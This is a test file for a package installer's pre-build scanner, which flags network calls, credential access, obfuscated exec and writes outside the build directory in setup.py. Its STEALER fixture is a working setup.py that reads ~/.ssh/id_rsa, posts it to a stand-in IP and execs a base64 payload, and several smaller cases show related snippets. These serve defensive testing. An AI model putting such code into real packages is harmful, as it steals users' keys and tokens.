"""The static pre-build scan: signals in build code, and what the policy makes of them."""

from __future__ import annotations

from pathlib import Path

import pytest
from packaging.utils import canonicalize_name

from safepip.policyfile import Policy
from safepip.scan import scan_findings, scan_source
from tests.buildkit import add_backends, make_project_sdist
from tests.conftest import run_safepip
from tests.kit import Index, IndexServer, isolated_environ

STEALER = """
import base64, os, urllib.request
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("http://198.51.100.7/", key.encode())
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
from setuptools import setup
setup()
"""


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("from setuptools import setup\nsetup(name='x')\n", set()),
        ("exec(open('x/version.py').read())\n", set()),
        ("import subprocess\nsubprocess.check_output(['git', 'describe'])\n", {"process"}),
        ("import os\nos.system('make')\n", {"process"}),
        ("import socket\n", {"network"}),
        ("from urllib.request import urlopen\nurlopen('http://x')\n", {"network"}),
        ("import requests\nrequests.post('http://x', data=1)\n", {"network"}),
        (
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n",
            {"obfuscated-exec"},
        ),
        ("eval(bytes.fromhex('7072696e74'))\n", {"obfuscated-exec"}),
        ("import ctypes\n", {"native-code"}),
        ("p = '~/.aws/credentials'\n", {"credentials"}),
        ("import os\nt = os.environ.get('GITHUB_TOKEN')\n", {"credentials"}),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", {"write-outside"}),
        ("open('/etc/cron.d/x', 'w')\n", {"write-outside"}),
        ("open('build/out.txt', 'w')\n", set()),
        ("open('/etc/os-release').read()\n", set()),
        ("blob = '" + "aGVsbG8gd29ybGQ1" * 20 + "'\n", {"encoded-blob"}),
        ("this is not python 3\nprint 'x'\n", set()),
    ],
)
def test_signals(source: str, expected: set[str]) -> None:
    assert {s.rule for s in scan_source(source, "setup.py")} == expected


def _tree(tmp_path: Path, setup_py: str) -> Path:
    src = tmp_path / "src"
    src.parent.mkdir(parents=True, exist_ok=True)
    src.mkdir()
    (src / "setup.py").write_text(setup_py)
    return src


def test_highest_risk_combination_is_refused_the_rest_warned(tmp_path: Path) -> None:
    name = canonicalize_name("stealer")
    findings = scan_findings(name, _tree(tmp_path, STEALER), Policy())
    by_rule = {f.rule: f for f in findings}
    assert set(by_rule) == {"scan-network", "scan-credentials", "scan-obfuscated-exec"}
    assert all(f.action == "refuse" for f in findings)
    assert "setup.py:3" in by_rule["scan-credentials"].message
    only_process = scan_findings(
        name, _tree(tmp_path / "b", "import os\nos.system('x')\n"), Policy()
    )
    assert [(f.rule, f.action) for f in only_process] == [("scan-process", "warn")]


def test_allow_list_in_the_trusted_policy_only(tmp_path: Path) -> None:
    name = canonicalize_name("stealer")
    src = _tree(tmp_path, STEALER)
    trusted = Policy(trusted={"scan": {"allow": ["Stealer"]}})
    assert {f.action for f in scan_findings(name, src, trusted)} == {"report"}
    project_only = Policy(project={"scan": {"allow": ["stealer"]}})
    assert {f.action for f in scan_findings(name, src, project_only)} == {"refuse"}


def test_scan_refusal_stops_the_install_before_any_build(
    index: Index, target_venv: Path, isolate: Path, tmp_path: Path
) -> None:
    add_backends(index, ("setuptools",))
    marker = tmp_path / "ran"
    setup_py = STEALER + f"open({str(marker)!r}, 'w')\n"
    index.add(make_project_sdist("stealer", "1.0", setup_py=setup_py), project="stealer")
    with IndexServer(index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "-i",
            srv.simple_url,
            "stealer",
            env=isolated_environ(isolate),
        )
    assert r.returncode == 3, r.stdout + r.stderr
    assert "scan-refused" in r.stderr and "names credential files" in r.stderr
    assert '[scan] allow = ["stealer"]' in r.stderr
    assert "Building" not in r.stdout and not marker.exists()


def test_templates_that_mention_credential_files_are_not_reading_them() -> None:
    source = 'SHIM = """\nexport npm_config_userconfig="$ENV/.npmrc"\n"""\n'
    assert scan_source(source, "tool.py") == []


def test_scans_setup_py_and_the_sdist_modules_it_imports(tmp_path: Path) -> None:
    src = _tree(tmp_path, "from mypkg.version import VERSION\nimport helper\n")
    (src / "helper.py").write_text("import socket\n")
    (src / "mypkg").mkdir()
    (src / "mypkg" / "__init__.py").write_text("")
    (src / "mypkg" / "version.py").write_text("import ctypes\n")
    (src / "unrelated.py").write_text("import os\nos.system('x')\n")
    rules = {f.rule for f in scan_findings(canonicalize_name("p"), src, Policy())}
    assert rules == {"scan-network", "scan-native-code"}


def test_warnings_are_shown_and_reported_and_the_build_goes_on(
    index: Index, target_venv: Path, isolate: Path, tmp_path: Path
) -> None:
    import json

    add_backends(index, ("setuptools",))
    setup_py = "import subprocess\nfrom setuptools import setup\nsetup()\n"
    index.add(make_project_sdist("spawner", "1.0", setup_py=setup_py), project="spawner")
    report = tmp_path / "report.json"
    with IndexServer(index) as srv:
        r = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--report",
            str(report),
            "-i",
            srv.simple_url,
            "spawner",
            env=isolated_environ(isolate),
        )
    assert r.returncode == 0, r.stdout + r.stderr
    assert (
        "spawner: build code starts other programs" not in r.stderr
    )  # an import alone is not a call
    r2_setup = (
        "import subprocess\nsubprocess.run(['true'])\nfrom setuptools import setup\nsetup()\n"
    )
    index.add(make_project_sdist("spawner2", "1.0", setup_py=r2_setup), project="spawner2")
    with IndexServer(index) as srv:
        r2 = run_safepip(
            "--python",
            str(target_venv / "bin/python"),
            "install",
            "--report",
            str(report),
            "-i",
            srv.simple_url,
            "spawner2",
            env=isolated_environ(isolate),
        )
    assert r2.returncode == 0, r2.stdout + r2.stderr
    assert "WARNING: spawner2: build code starts other programs (setup.py:2)" in r2.stderr
    findings = json.loads(report.read_text())["safepip"]["findings"]
    built = [f for f in findings if f["gate"] == "build"]
    assert [(f["rule"], f["details"]["backend"]) for f in built] == [("sandboxed-build", "bwrap")]
    assert [(f["gate"], f["rule"], f["action"]) for f in findings if f["gate"] == "scan"] == [
        ("scan", "scan-process", "warn")
    ]
